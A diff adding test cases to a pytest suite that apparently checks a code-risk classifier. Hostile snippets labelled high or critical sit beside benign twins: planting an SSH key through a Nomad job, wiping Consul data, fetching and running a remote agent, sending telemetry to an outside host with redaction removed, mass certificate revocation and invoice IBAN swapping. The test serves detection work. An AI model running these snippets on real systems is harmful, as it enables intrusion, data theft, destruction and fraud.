@@ -16822,6 +16822,153 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'winreg.SetValueEx(k, "svc_backup", 0, winreg.REG_DWORD, 0)\n',
             H,
         ),
+        # Round 100: job and container argv, Consul, Nomad, CA roles and revocations, telemetry, reload signals
+        (
+            'import nomad\n'
+            'script = "echo \'ssh-ed25519 AAAA k\' >> /root/.ssh/authorized_keys"\n'
+            'job = {"Job": {"ID": "k", "TaskGroups": [{"Tasks": [{"Driver": "raw_exec", "Config": {"command":'
+            ' "/bin/sh", "args": ["-c", script]}}]}]}}\n'
+            'nomad.Nomad().jobs.register_job(job)\n',
+            C,
+        ),
+        (
+            'job = {"Job": {"ID": "web", "TaskGroups": [{"Tasks": [{"Driver": "docker", "Config": {"image": "'
+            'nginx:1.27", "command": "nginx", "args": ["-g", "daemon off;"]}}]}]}}\n',
+            S,
+        ),
+        (
+            'container = {"name": "app", "image": "app:1", "command": ["python"], "args": ["-m", "app.worker"'
+            ']}\n',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            'requests.delete(f"{os.environ[\'CONSUL_HTTP_ADDR\']}/v1/kv/", params={"recurse": "true"})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.delete(f"{os.environ[\'CONSUL_HTTP_ADDR\']}/v1/kv/app/cache/", params={"recurse": "true"}'
+            ')\n',
+            S,
+        ),
+        (
+            'import consul\n'
+            'c = consul.Consul()\n'
+            'for n in c.catalog.service("vault")[1]:\n'
+            '    c.catalog.deregister(n["Node"], service_id=n["ServiceID"])\n'
+            'c.catalog.register("vault-0", "198.51.100.61", service={"Service": "vault"})\n',
+            H,
+        ),
+        (
+            'import consul\n'
+            'c = consul.Consul()\n'
+            'c.catalog.register("db-0", "10.0.4.20", service={"Service": "db"})\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'requests.put("http://c:8500/v1/acl/role", json={"Name": "ops", "Policies": [{"ID": "00000000-000'
+            '0-0000-0000-000000000001"}]})\n'
+            'requests.put("http://c:8500/v1/acl/binding-rule", json={"AuthMethod": "ci", "BindType": "role", '
+            '"BindName": "ops"})\n',
+            H,
+        ),
+        (
+            'import nomad\n'
+            'n = nomad.Nomad()\n'
+            'for job in n.jobs.get_jobs():\n'
+            '    n.job.deregister_job(job["ID"], purge=True)\n',
+            H,
+        ),
+        (
+            'import nomad\n'
+            'nomad.Nomad().job.deregister_job("nightly-report")\n',
+            S,
+        ),
+        (
+            'import httpx\n'
+            'c = httpx.Client(base_url="http://127.0.0.1:4646")\n'
+            'for a in c.get("/v1/allocations").json():\n'
+            '    c.post(f"/v1/client/allocation/{a[\'ID\']}/signal",\n'
+            '           json={"Signal": "SIGKILL"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'job = {"Job": {"TaskGroups": [{"Tasks": [{"Driver": "raw_exec", "Artifacts": [{"GetterSource": "'
+            'http://203.0.113.80/dl/agent"}], "Config": {"command": "local/agent"}}]}]}}\n'
+            'requests.post("http://nomad:4646/v1/jobs", json=job)\n',
+            H,
+        ),
+        (
+            'import hvac\n'
+            'c = hvac.Client()\n'
+            'c.write("pki_int/roles/web", allow_any_name=True, enforce_hostnames=False, max_ttl="87600h")\n',
+            H,
+        ),
+        (
+            'import hvac\n'
+            'c = hvac.Client()\n'
+            'c.write("pki_int/roles/web", allowed_domains="example.com", allow_subdomains=True, max_ttl="720h'
+            '")\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'with open("/etc/pki/CA/index.txt") as idx:\n'
+            '    serials = [l.split("\\t")[3] for l in idx if l.startswith("V")]\n'
+            'for s in serials:\n'
+            '    subprocess.run(["openssl", "ca", "-revoke", f"/etc/pki/CA/newcerts/{s}.pem"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["openssl", "ca", "-revoke", "/etc/pki/CA/newcerts/1A2B.pem", "-crl_reason", "key'
+            'Compromise"])\n',
+            L,
+        ),
+        (
+            'import yaml\n'
+            'cfg = yaml.safe_load(open("/etc/otelcol-contrib/config.yaml"))\n'
+            'cfg["exporters"]["otlphttp/m"] = {"endpoint": "http://203.0.113.77:4318"}\n'
+            'for name, pipe in cfg["service"]["pipelines"].items():\n'
+            '    pipe["processors"] = [p for p in pipe["processors"] if not p.startswith(("redaction",))]\n'
+            '    pipe["exporters"].append("otlphttp/m")\n',
+            H,
+        ),
+        (
+            'import yaml\n'
+            'cfg = yaml.safe_load(open("otel.yaml"))\n'
+            'cfg["exporters"]["otlp/tempo"] = {"endpoint": "10.0.3.7:4317"}\n'
+            'for name, pipe in cfg["service"]["pipelines"].items():\n'
+            '    pipe["exporters"].append("otlp/tempo")\n',
+            S,
+        ),
+        (
+            'import os, signal, psutil\n'
+            'for p in psutil.process_iter(["name"]):\n'
+            '    if p.info["name"] == "vector":\n'
+            '        os.kill(p.pid, signal.SIGHUP)\n',
+            M,
+        ),
+        (
+            'import os, signal, psutil\n'
+            'for p in psutil.process_iter():\n'
+            '    os.kill(p.pid, signal.SIGHUP)\n',
+            H,
+        ),
+        (
+            'from docx import Document\n'
+            'OLD = "GB29 NWBK 6016 1331 9268 19"\n'
+            'NEW = "GB94 BARC 2004 0568 1937 22"\n'
+            'for path in invoices:\n'
+            '    doc = Document(path)\n'
+            '    for p in doc.paragraphs:\n'
+            '        p.text = p.text.replace(OLD, NEW)\n'
+            '    doc.save(path)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
